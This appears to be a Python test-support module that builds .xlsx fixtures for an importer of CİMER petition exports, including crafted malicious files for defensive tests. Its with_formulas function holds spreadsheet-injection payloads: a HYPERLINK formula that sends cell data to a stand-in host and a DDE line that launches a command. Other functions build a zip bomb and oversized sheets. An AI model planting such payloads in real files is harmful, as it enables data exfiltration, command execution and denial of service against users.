"""Spreadsheets for the .xlsx import tests: a realistic CİMER panel export and crafted malicious files.

`python -m tests.support.xlsx_files` rewrites tests/fixtures/cimer/basvurular.xlsx (kept small and in git so
the README's "try it" works without Python).
"""
from __future__ import annotations

import io
import zipfile
from datetime import datetime
from pathlib import Path

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "cimer" / "basvurular.xlsx"

HEADER = ["Sıra", "Başvuru No", "Başvuru Tarihi", "Ad Soyad", "İletişim", "Konu", "Başvuru Metni", "Adres",
          "Kanun"]
# The same applications as tests/fixtures/cimer/basvurular.csv: 3 good, 1 duplicate, 2 bad (date, number).
ROWS = [
    [1, "2026/4815162", datetime(2026, 11, 20, 14, 35), "Fatma Öztürk", "0532 444 55 66", "Çöp konteyneri",
     "Mahallemizdeki çöp konteynerleri bir haftadır boşaltılmıyor, koku ve haşere var.",
     "Mevlana Mahallesi, Gül Sokak No:4 Talas/Kayseri", "3071 Dilekçe Hakkı"],
    [2, "2026/4815163", datetime(2026, 11, 21, 9, 10), "Hasan Çelik", "hasan.celik@example.com", "Park bakımı",
     "Parktaki salıncaklar kırık, çocuklar için tehlikeli.", "Harman Mahallesi Talas/Kayseri", "3071 Dilekçe Hakkı"],
    [3, "2026/4815164", "31.13.2026 25:99", "Bozuk Tarih", "0532 000 00 00", "Deneme", "Tarihi bozuk satır.", None,
     "3071 Dilekçe Hakkı"],
    [4, "2026/4815163", datetime(2026, 11, 21, 9, 10), "Hasan Çelik", "hasan.celik@example.com", "Park bakımı",
     "Parktaki salıncaklar kırık, çocuklar için tehlikeli.", "Harman Mahallesi Talas/Kayseri", "3071 Dilekçe Hakkı"],
    [5, "2026/4815165", datetime(2026, 11, 23, 16, 2), "Elif Aksoy", "0505 222 33 44", "Bilgi edinme",
     "2026 yılı asfalt çalışmaları için ayrılan bütçenin mahalle bazında dökümünü talep ediyorum.", None,
     "4982 Bilgi Edinme"],
    [6, None, datetime(2026, 11, 24, 10, 0), "Numarasız Başvuru", None, "Konu", "Başvuru numarası olmayan satır.",
     None, "3071 Dilekçe Hakkı"],
]


def workbook_bytes(rows: list[list], header: list[str] = HEADER, *, title: bool = True) -> bytes:
    """An export as the CİMER panel produces it: title lines, a header row, date cells formatted as dates."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "Başvurular"
    if title:
        ws.append(["CİMER Başvuru Listesi — Talas Belediyesi"])
        ws.append(["Rapor tarihi: 25.11.2026 08:30"])
        ws.append([])
    ws.append(header)
    for row in rows:
        ws.append(row)
        for cell in ws[ws.max_row]:
            if isinstance(cell.value, datetime):
                cell.number_format = "dd.mm.yyyy hh:mm"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def cimer_export() -> bytes:
    return workbook_bytes(ROWS)


def with_formulas() -> bytes:
    """Formula cells (the classic spreadsheet-injection payloads) where the applicant's text goes."""
    rows = [[1, "2026/900001", datetime(2026, 11, 20, 10, 0), "Deneme Kişi", "0532 444 55 66", "Bağlantı",
             '=HYPERLINK("http://kotu.example/x?d="&A1,"Tıklayın")', None, "3071"],
            [2, "2026/900002", datetime(2026, 11, 20, 11, 0), "Deneme Kişi", None, "Komut",
             "=cmd|' /C calc'!A0", None, "3071"],
            [3, "2026/900003", datetime(2026, 11, 20, 12, 0), "=1+1", None, "Toplam", "=SUM(1,2)", None, "3071"]]
    return workbook_bytes(rows)


def zip_with(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def replace_member(xlsx: bytes, name: str, data: bytes) -> bytes:
    """The same workbook with one part replaced (e.g. a sheet with a million rows, a huge sharedStrings)."""
    src = zipfile.ZipFile(io.BytesIO(xlsx))
    return zip_with({**{n: src.read(n) for n in src.namelist()}, name: data})


def zip_bomb() -> bytes:
    """A valid workbook whose sharedStrings part inflates 20 MB of zeros from ~20 KB (ratio ~1000)."""
    return replace_member(cimer_export(), "xl/sharedStrings.xml", b"<sst>" + b"0" * (20 * 1024 * 1024) + b"</sst>")


def sheet_xml(rows_xml: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            + rows_xml + "</sheetData></worksheet>").encode()


def many_rows(n: int) -> bytes:
    """n data rows with inline strings (header row 1)."""
    def row(r: int, values: list[str]) -> str:
        cells = "".join(f'<c r="{chr(65 + i)}{r}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(values))
        return f'<row r="{r}">{cells}</row>'

    body = row(1, ["Başvuru No", "Başvuru Tarihi", "Başvuru Metni"])
    body += "".join(row(r, [f"2026/{r}", "20.11.2026", "Çukur var"]) for r in range(2, n + 2))
    return replace_member(cimer_export(), "xl/worksheets/sheet1.xml", sheet_xml(body))


def stray_last_row() -> bytes:
    """Two applications, then one cell at Excel's last row: a reader that pads gaps walks a million rows."""
    rows = ('<row r="1"><c r="A1" t="inlineStr"><is><t>Başvuru No</t></is></c>'
            '<c r="B1" t="inlineStr"><is><t>Başvuru Tarihi</t></is></c>'
            '<c r="C1" t="inlineStr"><is><t>Başvuru Metni</t></is></c></row>'
            '<row r="2"><c r="A2" t="inlineStr"><is><t>2026/1</t></is></c>'
            '<c r="B2" t="inlineStr"><is><t>20.11.2026</t></is></c>'
            '<c r="C2" t="inlineStr"><is><t>Çukur var</t></is></c></row>'
            '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>')
    return replace_member(cimer_export(), "xl/worksheets/sheet1.xml", sheet_xml(rows))


if __name__ == "__main__":
    FIXTURE.write_bytes(cimer_export())
    print(f"wrote {FIXTURE} ({FIXTURE.stat().st_size} bytes)")
